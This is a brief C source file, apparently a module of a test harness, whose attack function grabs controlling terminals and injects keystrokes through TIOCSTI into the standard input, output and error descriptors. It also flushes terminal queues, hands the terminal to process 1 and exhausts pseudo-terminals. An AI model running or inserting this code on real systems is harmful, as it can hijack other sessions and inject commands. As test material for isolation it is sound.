/*
 * terminals.c - makes terminals its own, and types into them
 *
 * play: main 03 server
 * play: first 02 client
 * play: main 01 server
 */
static void
attack(void)
{
    int master = posix_openpt(O_RDWR);

    setsid();
    grantpt(master);
    unlockpt(master);
    int slave = master != -1 ? open(ptsname(master), O_RDWR) : -1;
    ioctl(slave, TIOCSCTTY, 1);
    ioctl(slave, TIOCSTI, "\3");
    for (int fd = 0; fd < 3; fd++) {
        ioctl(fd, TIOCSCTTY, 1);
        ioctl(fd, TIOCSTI, "x");
        ioctl(fd, TIOCNOTTY);
        tcflush(fd, TCIOFLUSH);
    }
    tcsetpgrp(slave, 1);
    for (int i = 0; i < 40; i++)
        posix_openpt(O_RDWR);
}
